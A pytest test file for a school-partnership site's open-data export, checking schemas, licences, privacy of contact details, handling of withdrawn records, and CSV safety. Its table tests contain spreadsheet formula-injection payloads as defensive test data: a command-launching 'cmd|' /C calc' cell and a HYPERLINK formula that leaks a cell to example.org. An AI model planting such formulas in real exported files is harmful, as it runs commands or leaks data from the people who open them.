"""The data of a site: foreign programs read it, it says its licence, and nothing is in it that is on no page."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from collections.abc import Iterator
from contextlib import redirect_stdout
from datetime import date
from functools import cache
from html import unescape
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from jsonschema import Draft7Validator, FormatChecker
from selectolax.lexbor import LexborHTMLParser

from conftest import TODAY
from content import BASE, RESOURCE, SCHOOL, library, outputs_of, repository, resource, school, trial, visit
from partnership.library import Library, load
from partnership.library.history import Changes, History
from partnership.records import KINDS
from partnership.records.annotations import fields_of, model_in
from partnership.records.fields import Model
from partnership.text import dates
from partnership.writers.open_data import all_data
from partnership.writers.open_data.tables import harmless
from partnership.writers.output import Output

LISTS = ("pages", "schools", "resources", "trials", "meetings", "vocabulary")
NEVER_PUBLISHED = {
    "page": "aliases leaflet menu footer scene for_pupils step stone",
    "school": """
        aliases location.latitude location.longitude contact.role contact.email contact.phone offers.themes offers.since
        requests.themes requests.since
        """,
    "resource": """
        aliases pictures.alternative_text pictures.people pictures.permission.basis pictures.permission.held_by
        pictures.permission.school pictures.permission.expires pictures.permission.withdrawn pictures.reviewed scene
        """,
    "translation": "aliases parts in_original card.title card.lines note",
    "trial": "",
    "meeting": """
        aliases uid online contact visit.approved visit.taken.school visit.taken.places revision
        """,
}
"""The fields that no page shows, or that are for people who read a page and not for programs. Whoever adds a field
decides: it stands here, or among the `published` of its class. Exceptions of editors are never published."""


@cache
def api(site: Path) -> dict[str, Any]:
    """Every JSON file of the data by its path."""
    files = sorted((site / "api/v1").rglob("*.json"))
    return {path.relative_to(site).as_posix(): json.loads(path.read_text("utf-8")) for path in files}


def records(site: Path) -> dict[str, Any]:
    return {path: file for path, file in api(site).items() if "record" in file}


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def made(of: Library) -> dict[str, Any]:
    """Every file of the data of a library by its path below api/v1/: JSON as values, tables as rows."""
    found: dict[str, Any] = {}
    for output in outputs_of(of):
        if isinstance(output, Output) and output.uri.startswith("api/v1/"):
            text = "".join(output.content()) if callable(output.content) else str(output.content)
            read = rows if output.uri.endswith(".csv") else json.loads
            found[output.uri.removeprefix("api/v1/")] = read(text)
    return found


def leaves(model: type[Model], at: str = "") -> Iterator[str]:
    for name, field in fields_of(model).items():
        group = model_in(field.annotation)
        yield from leaves(group, f"{at}{name}.") if group else [f"{at}{name}"]


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: str(kind.kind))
def test_of_every_field_somebody_has_decided_whether_it_is_published(kind: type[Any]) -> None:
    never = set(NEVER_PUBLISHED[kind.kind].split())
    assert not never & kind.published
    decided = never | kind.published | {"allow"}
    assert kind.published <= {*leaves(kind)}
    assert [path for path in leaves(kind) if path not in decided and path.partition(".")[0] not in decided] == []


# What others read


def test_every_file_is_what_its_schema_says(site: Path, content: Library) -> None:
    files, address = api(site), content.settings.address
    schemas = {path: file for path, file in files.items() if "/schemas/" in path}
    validators = {path: Draft7Validator(schema, format_checker=FormatChecker()) for path, schema in schemas.items()}
    others = {path: file for path, file in files.items() if path not in schemas}
    assert len(others) > 100
    wrong = {
        path: [error.message for error in validators[file["$schema"].removeprefix(address)].iter_errors(file)]
        for path, file in others.items()
    }
    assert {path: errors for path, errors in wrong.items() if errors} == {}


def test_every_schema_is_one_and_explains_every_field(site: Path) -> None:
    for path, schema in api(site).items():
        if "/schemas/" in path:
            Draft7Validator.check_schema(schema)
    record = api(site)["api/v1/schemas/resource.json"]["properties"]["record"]
    assert [name for name, field in record["properties"].items() if not field.get("description")] == []


def test_a_schema_finds_what_is_wrong(site: Path) -> None:
    schema = Draft7Validator(api(site)["api/v1/schemas/resource.json"])
    good = api(site)["api/v1/resources/two-minute-playground-conversation.json"]
    bad = good | {"record": good["record"] | {"themes": ["unheard-of"], "telephone": "01632 960204"}}
    assert sorted(error.validator for error in schema.iter_errors(bad)) == ["additionalProperties", "enum"]


@pytest.mark.parametrize("kind", LISTS)
def test_every_record_of_a_list_is_there_as_a_file_and_as_a_row(site: Path, content: Library, kind: str) -> None:
    listed = api(site)[f"api/v1/{kind}.json"]["records"]
    assert listed
    for entry in listed:
        assert entry["data"].removeprefix(content.settings.address) in api(site)
    table = rows((site / f"api/v1/{kind}.csv").read_bytes().decode())
    names = {row["facet" if kind == "vocabulary" else "id"] for row in table}
    assert names == {entry["id"] for entry in listed}


def test_the_catalogue_leads_to_all_of_it(site: Path, content: Library) -> None:
    catalogue = api(site)["api/v1/index.json"]
    places = [catalogue["about"] + "index.html", catalogue["changes"], catalogue["hashes"]]
    places += [kind[name] for kind in catalogue["kinds"] for name in ("list", "table", "schema")]
    assert len(places) == 3 + 3 * (len(KINDS) + 1)
    assert [place for place in places if not (site / place.removeprefix(content.settings.address)).is_file()] == []


def test_everything_says_its_licence_and_where_it_came_from(site: Path, content: Library) -> None:
    for path, file in api(site).items():
        if "/schemas/" in path:
            assert content.settings.name in file["$comment"]
            assert "CC BY-SA 4.0" in file["$comment"]
        else:
            assert file["licence"]["name"], path
            assert content.settings.address in file["attribution"], path
    for kind in LISTS:
        for row in rows((site / f"api/v1/{kind}.csv").read_bytes().decode()):
            assert row["licence"]
            assert content.settings.address in row["attribution"]


def test_a_resource_has_a_licence_of_its_own_and_names_who_shared_it(tmp_path: Path) -> None:
    data = made(library(tmp_path, resource("slip", title="A slip", licence="CC0-1.0", shared_by="oakland-primary")))
    file = data["resources/slip.json"]
    assert file["licence"]["id"] == "CC0-1.0"
    assert file["attribution"].startswith("“A slip”, shared by Oakland Primary. ")


def test_every_address_in_it_leads_somewhere(site: Path, content: Library) -> None:
    lost, followed = [], 0
    files = (file for path, file in api(site).items() if path != "api/v1/index.json")
    for file in files:
        for entry in (file, *file.get("records", ()), *file.get("changes", ())):
            for address in filter(None, map(entry.get, ("url", "data", "next"))):
                path, _, place = address.removeprefix(content.settings.address).partition("#")
                found = site / path / "index.html" if path.endswith("/") or not path else site / path
                followed += 1
                if not found.is_file() or (place and f'id="{place}"' not in found.read_text("utf-8")):
                    lost.append(address)
    assert followed > 300
    assert lost == []


def test_the_changes_are_the_days_of_the_history_the_newest_first(tmp_path: Path) -> None:
    root = repository(tmp_path, resource("slip"))
    days = {
        "resources/slip/index.md": Changes(date(2026, 9, 1), date(2026, 10, 2)),
        SCHOOL: Changes(date(2026, 9, 5), date(2026, 9, 5)),
        # A page that comes with the engine, which once stood here.
        "docs/share.md": Changes(date(2026, 9, 6), date(2026, 9, 7)),
    }
    changes = made(load(root, TODAY, History(days)))["changes.json"]["changes"]
    found = [(one["day"], one["change"], one["id"]) for one in changes]
    assert [one for one in found if one[2] in ("slip", "oakland-primary", "share")] == [
        ("2026-10-02", "changed", "slip"),
        ("2026-09-05", "added", "oakland-primary"),
        ("2026-09-01", "added", "slip"),
    ]


# Nothing but what is on a page


@cache
def said_on_pages(site: Path) -> str:
    """Everything that pages say, and every value of an attribute in them, each between line ends."""
    words = []
    for page in site.rglob("*.html"):
        tree = LexborHTMLParser(page.read_text("utf-8"))
        words += [value for node in tree.css("*") for value in node.attributes.values() if value]
        words.append(tree.text(separator=""))
    return re.sub(r"\s+", " ", re.sub(r"[\"“”]", "", unescape("\n".join(words))))


def strings(value: object) -> Iterator[str]:
    match value:
        case str():
            yield value
        case dict():
            for inner in value.values():
                yield from strings(inner)
        case list():
            for inner in value:
                yield from strings(inner)


def ways_to_say(text: str) -> list[str]:
    """How a page can say a text: of a day, by its words too."""
    if re.fullmatch(r"\d{4}-\d\d-\d\d(T.*)?", text):
        day = date.fromisoformat(text[:10])
        return [text, text[:10], dates.day(day), dates.short_day(day), dates.month(day)]
    # A meeting says in brackets how long something takes, and a card has numbers and quotation marks of its own.
    return [" ".join(re.sub(r", \d+ minutes$|^\d+\. |[\"“”]", "", text).split())]


def test_nothing_is_in_it_that_is_on_no_page(site: Path) -> None:
    pages, found, read = said_on_pages(site), set(), 0
    for path, file in records(site).items():
        for text in strings(file["record"]):
            read += 1
            if not any(way in pages for way in ways_to_say(text)):
                found.add((path, text))
    for kind in LISTS:
        for entry in api(site)[f"api/v1/{kind}.json"]["records"]:
            texts = [entry.get(name, "") for name in ("title", "summary")]
            found |= {(kind, text) for text in texts if not any(way in pages for way in ways_to_say(text))}
    assert read > 1000
    assert found == set()


def test_a_text_that_is_on_no_page_would_be_found(site: Path) -> None:
    assert ways_to_say("Only the data says this.")[0] not in said_on_pages(site)


def test_how_to_reach_a_school_is_in_no_file_of_it(site: Path, content: Library) -> None:
    texts = "\n".join(path.read_text("utf-8") for path in (site / "api").rglob("*") if path.is_file())
    private = [value for one in content.schools for value in (one.contact.email, one.contact.phone) if value]
    private += [value for one in content.meetings for value in (one.uid, one.online) if value]
    assert len(private) > 15
    assert [value for value in private if value in texts] == []


def test_what_is_invented_says_so(site: Path, content: Library) -> None:
    marked = {file["kind"] + "/" + file["id"] for file in records(site).values() if file.get("sample")}
    assert marked == {f"{kind}/{slug}" for (kind, slug), record in content.records.items() if record.sample}
    for kind in ("schools", "resources", "trials", "meetings"):
        listed = {entry["id"] for entry in api(site)[f"api/v1/{kind}.json"]["records"] if entry.get("sample")}
        table = rows((site / f"api/v1/{kind}.csv").read_bytes().decode())
        assert {row["id"] for row in table if row["sample"] == "yes"} == listed
        assert all(row["sample"] in ("yes", "no") for row in table)


def test_a_visit_that_waits_for_its_host_is_in_no_file(tmp_path: Path) -> None:
    waiting = {path: text.replace("approved: yes", "approved: no") for path, text in visit("waits").items()}
    assert not [path for path in made(library(tmp_path, waiting)) if "waits" in path]


def test_how_to_get_to_a_visit_is_said_until_it_has_taken_place(tmp_path: Path) -> None:
    soon = visit("soon", "arrival: At nine, at the gate.")
    past = visit("past", "arrival: At nine, at the gate.", starts="2026-10-14 09:15", uid="uid-of-past-one")
    data = made(library(tmp_path, soon | past))
    assert data["meetings/soon.json"]["record"]["visit"]["arrival"] == "At nine, at the gate."
    assert "arrival" not in data["meetings/past.json"]["record"]["visit"]


def test_a_school_that_left_offers_nothing_more(tmp_path: Path) -> None:
    offers = "[{what: a circle}]"
    files = school("here", name="Here", offers=offers) | school("gone", name="Gone", offers=offers, left="2026-10-01")
    data = made(library(tmp_path, files))
    assert data["schools/here.json"]["record"]["offers"] == [{"what": "a circle"}]
    assert "offers" not in data["schools/gone.json"]["record"]
    assert data["schools/gone.json"]["record"]["left"] == "2026-10-01"


def test_a_picture_that_nothing_allows_is_not_named(tmp_path: Path) -> None:
    here = made(library(tmp_path / "here"))["resources/two-minute-conversation.json"]["record"]
    assert here["pictures"]
    lapsed = BASE[RESOURCE].replace("people: drawing", "people: from-behind")
    there = made(library(tmp_path / "there", {RESOURCE: lapsed}))["resources/two-minute-conversation.json"]["record"]
    assert "pictures" not in there


# What was withdrawn, removed or renamed


def test_what_was_withdrawn_leaves_the_lists_and_its_file_says_why(tmp_path: Path) -> None:
    gone = resource("slip", status="withdrawn", withdrawn="2026-11-02", reason="It did harm.")
    data = made(library(tmp_path, gone))
    assert data["resources/slip.json"]["record"]["reason"] == "It did harm."
    assert "slip" not in {entry["id"] for entry in data["resources.json"]["records"]}
    assert "slip" not in {row["id"] for row in data["resources.csv"]}
    withdrawn = [change for change in data["changes.json"]["changes"] if change["change"] == "withdrawn"]
    assert [(change["id"], change["day"]) for change in withdrawn] == [("slip", "2026-11-02")]


def test_of_what_was_removed_nothing_is_left_but_a_file_that_says_so(tmp_path: Path) -> None:
    data = made(library(tmp_path, {SCHOOL: "status: removed\nremoved: 2026-11-20\naliases: [oakland]\n"}))
    for name in ("oakland-primary", "oakland"):
        file = data[f"schools/{name}.json"]
        assert (file["status"], file["id"]) == ("removed", "oakland-primary")
        assert "record" not in file
    (removed,) = [change for change in data["changes.json"]["changes"] if change["change"] == "removed"]
    assert (removed["id"], removed["day"]) == ("oakland-primary", "2026-11-20")


def test_no_record_names_one_that_was_removed(tmp_path: Path) -> None:
    files = {SCHOOL: "status: removed\nremoved: 2026-11-20\n"} | trial("two-minute-conversation")
    data = made(library(tmp_path, files))
    named = {path for path, file in data.items() if "oakland" in json.dumps(file)}
    assert named == {
        "schools/oakland-primary.json",
        "changes.json",
        # The address of a trial, as its page has it.
        "trials/two-minute-conversation/oakland-primary-2026-27.json",
        "trials.json",
        "trials.csv",
    }
    assert "school" not in data["trials/two-minute-conversation/oakland-primary-2026-27.json"]["record"]


def test_a_former_address_has_the_same_file_and_so_have_the_trials_below_it(tmp_path: Path) -> None:
    ash = school("ash", name="Ash", aliases="[the-ash]")
    data = made(library(tmp_path, resource("slip", aliases="[paper]") | ash | trial("slip", "ash")))
    assert data["resources/paper.json"] == data["resources/slip.json"]
    assert data["schools/the-ash.json"] == data["schools/ash.json"]
    for former in ("paper/ash-2026-27", "slip/the-ash-2026-27", "paper/the-ash-2026-27"):
        assert data[f"trials/{former}.json"] == data["trials/slip/ash-2026-27.json"]


def test_a_long_list_comes_in_parts_that_lead_to_one_another(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(all_data, "MOST_IN_A_PART", 2)
    of = library(tmp_path, resource("a") | resource("b") | resource("c") | resource("d"))
    data, found, path = made(of), [], "resources.json"
    while path:
        assert len(data[path]["records"]) <= 2
        found += [entry["id"] for entry in data[path]["records"]]
        path = data[path].get("next", "").removeprefix(f"{of.settings.address}api/v1/")
    assert found == ["a", "b", "c", "d", "two-minute-conversation"]
    assert len(data["resources.csv"]) == 5


# Tables


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "  =", "＝", "＋", "－", "＠"])  # noqa: RUF001
def test_no_cell_begins_a_formula(start: str) -> None:
    assert harmless(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("cell", ["", "Oakland Primary", "2026-10-08", "a = b", '"Quoted" words', "'tis"])
def test_any_other_cell_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


def test_a_title_that_is_a_formula_is_harmless_in_a_table_and_whole_in_json(tmp_path: Path) -> None:
    title = '=HYPERLINK("https://example.org/?leak="&A1, "Press, here")'
    data = made(library(tmp_path, resource("slip", title=f"'{title}'")))
    assert data["resources/slip.json"]["record"]["title"] == title
    (row,) = [row for row in data["resources.csv"] if row["id"] == "slip"]
    assert row["title"] == f"'{title}"


def test_a_table_begins_with_the_mark_by_which_excel_knows_its_letters(site: Path) -> None:
    for kind in LISTS:
        assert (site / f"api/v1/{kind}.csv").read_bytes().startswith(b'\xef\xbb\xbf"')


def test_a_table_says_words_as_people_read_them(tmp_path: Path) -> None:
    (row,) = [row for row in made(library(tmp_path))["schools.csv"] if row["id"] == "oakland-primary"]
    assert row["name"] == "Oakland Primary"
    assert row["phase"] == "Primary"


# The page, and its examples


def test_each_example_of_the_page_does_what_it_says(site: Path, content: Library) -> None:
    page = LexborHTMLParser((site / "data/index.html").read_text("utf-8"))
    programs = [node.text() for node in page.css("code.language-python")]
    assert len(programs) == 4

    def read_here(address: str) -> io.BytesIO:
        assert address.startswith(content.settings.address)
        return io.BytesIO((site / address.removeprefix(content.settings.address)).read_bytes())

    printed = []
    for program in programs:
        with mock.patch("urllib.request.urlopen", read_here), redirect_stdout(io.StringIO()) as output:
            exec(compile(program, "example", "exec"), {})  # noqa: S102 (the page is ours)
        printed.append(output.getvalue())
    assert "The two-minute playground conversation https://" in printed[0]
    assert len(printed[1].splitlines()) == 3
    assert "CC BY-SA 4.0" in printed[1]
    assert printed[2].startswith("Counter({")
    assert printed[3] == ""


def test_the_page_leads_to_every_list_and_explains_every_field(site: Path) -> None:
    page = LexborHTMLParser((site / "data/index.html").read_text("utf-8"))
    links = {node.attributes["href"] for node in page.css(".body a")}
    assert {f"../api/v1/{kind}.{ending}" for kind in LISTS for ending in ("json", "csv")} <= links
    explained = {node.text() for node in page.css(".fields dt")}
    assert {field for kind in KINDS for field in kind.published} <= explained
    assert [node.html for node in page.css(".fields dd") if not node.text(strip=True)] == []


def test_every_page_leads_to_it_from_its_foot(site: Path) -> None:
    for path in ("index.html", "resources/two-minute-playground-conversation/index.html"):
        foot = LexborHTMLParser((site / path).read_text("utf-8")).css(".site-footer a")
        assert "Open data" in [node.text() for node in foot]


# Hashes


def test_a_program_of_every_computer_finds_the_site_whole(site: Path) -> None:
    done = subprocess.run(
        ["sha256sum", "--check", "--quiet", "--strict", "manifest.sha256"], cwd=site, capture_output=True, check=False
    )
    assert (done.returncode, done.stdout) == (0, b"")
    listed = {line[66:] for line in (site / "manifest.sha256").read_text("utf-8").splitlines()}
    files = {path.relative_to(site).as_posix() for path in site.rglob("*") if path.is_file()}
    assert listed == files - {"manifest.sha256"}
    assert "downloads/whole-library.zip" in listed
